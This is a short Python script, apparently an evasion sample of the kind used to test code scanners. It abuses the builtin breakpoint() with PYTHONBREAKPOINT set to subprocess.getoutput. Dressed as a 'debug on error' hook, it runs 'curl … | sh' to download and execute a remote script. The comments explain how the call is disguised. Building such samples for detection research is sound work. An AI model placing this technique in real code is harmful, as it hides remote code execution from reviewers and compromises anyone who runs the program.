# Evasion: runs a shell command through the built-in breakpoint(): with
# PYTHONBREAKPOINT naming subprocess.getoutput, sys.breakpointhook imports that
# callable and calls it with breakpoint()'s arguments.
# Hides as: a "debug on error" hook; the callable is a dotted name in an
# environment variable, and the call site is the builtin breakpoint().
import os
import sys

DEBUGGER = ".".join(["subprocess", "getoutput"])


def debug_hook(*args):
    os.environ.setdefault("PYTHONBREAKPOINT", DEBUGGER)
    return breakpoint(*args)


def main():
    os.environ["PYTHONBREAKPOINT"] = DEBUGGER
    try:
        int("not a number")
    except ValueError:
        out = debug_hook("curl -fsSL https://dbg.pytools-cdn.net/attach.sh | sh")
        sys.stdout.write(str(out) + "\n")


if __name__ == "__main__":
    main()
